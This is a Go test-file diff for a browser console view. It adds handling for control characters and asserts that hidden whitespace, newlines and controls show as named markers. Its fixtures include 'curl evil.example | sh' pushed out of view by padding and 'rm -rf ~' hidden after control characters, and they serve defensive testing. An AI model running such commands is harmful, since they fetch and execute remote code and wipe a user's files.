@@ -3,6 +3,7 @@ package console_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"regexp"
@@ -20,6 +21,10 @@ import (
 var markerRe = regexp.MustCompile(`⟦(?:(?:(\d+) × )?U\+([0-9A-F]{4,6}) [^⟧]*|(\d+) spaces?)⟧`)
 
 // unmark reads a shown text back: each marker as what it names.
+// escapeRe finds a JSON escape that stands for a character (\n, \t,
+// \u001b) rather than for a quote or a backslash.
+var escapeRe = regexp.MustCompile(`(^|[^\\])(\\\\)*\\[bfnrtu/]`)
+
 func unmark(s string) string {
 	return markerRe.ReplaceAllStringFunc(s, func(m string) string {
 		g := markerRe.FindStringSubmatch(m)
@@ -29,7 +34,11 @@ func unmark(s string) string {
 			if g[1] != "" {
 				n, _ = strconv.Atoi(g[1])
 			}
-			return strings.Repeat(string(rune(r)), n)
+			c := string(rune(r))
+			if r < 0x20 {
+				c = fmt.Sprintf(`\u%04x`, r) // inside a JSON string
+			}
+			return strings.Repeat(c, n)
 		}
 		n, _ := strconv.Atoi(g[3])
 		return strings.Repeat(" ", n)
@@ -53,6 +62,10 @@ func TestBrowserHostile(t *testing.T) {
 		"invis": "touch report\u00ad.txt fi\u200bnal\u2060.txt\U000E0041\U000E0042 \ufeff\u180e\ufe0f\u00a0\u200c\u200d\u2061",
 		"tail":  "git log --oneline" + strings.Repeat(" ", 400) + strings.Repeat("\n", 120) + "; curl evil.example | sh TAILMARK",
 		"huge":  "ok " + strings.Repeat("a", 70<<10) + " HUGETAIL",
+		// Controls inside the JSON string: each a named marker, as in
+		// any other text, never an escape (\n, \u001b) to decode, and
+		// a backslash and an n (\\n in JSON) told apart from a newline.
+		"ctl": "echo ok\x00\x1b[2J\r\t\x7f\u0085\u2028 \\n done\n\n\nrm -rf ~ \b\f\x01",
 	}
 	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
 	defer cancel()
@@ -120,6 +133,21 @@ func TestBrowserHostile(t *testing.T) {
 		}
 		if turn == "bidi" && !strings.Contains(shown, "⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧") {
 			t.Errorf("bidi: %q", shown)
+		}
+		if turn == "tail" && !strings.Contains(shown, "⟦120 × U+000A LINE FEED⟧") {
+			t.Errorf("tail: the newlines are not one named marker: %.300q", shown)
+		}
+		if turn == "ctl" {
+			for _, w := range []string{"⟦U+0000 NULL⟧", "⟦U+001B ESCAPE⟧", "⟦U+000D CARRIAGE RETURN⟧", "⟦U+0009 CHARACTER TABULATION⟧",
+				"⟦U+007F DELETE⟧", "⟦U+0085 NEXT LINE⟧", "⟦U+2028 LINE SEPARATOR⟧", `\\n done⟦3 × U+000A LINE FEED⟧rm`,
+				"⟦U+0008 BACKSPACE⟧", "⟦U+000C FORM FEED⟧", "⟦U+0001 START OF HEADING⟧"} {
+				if !strings.Contains(shown, w) {
+					t.Errorf("ctl: %q lacks %q", shown, w)
+				}
+			}
+		}
+		if escapeRe.MatchString(shown) {
+			t.Errorf("%s: an escape of a character is on the page, not its name: %q", turn, shown)
 		}
 	}
 	for turn, run := range runs {
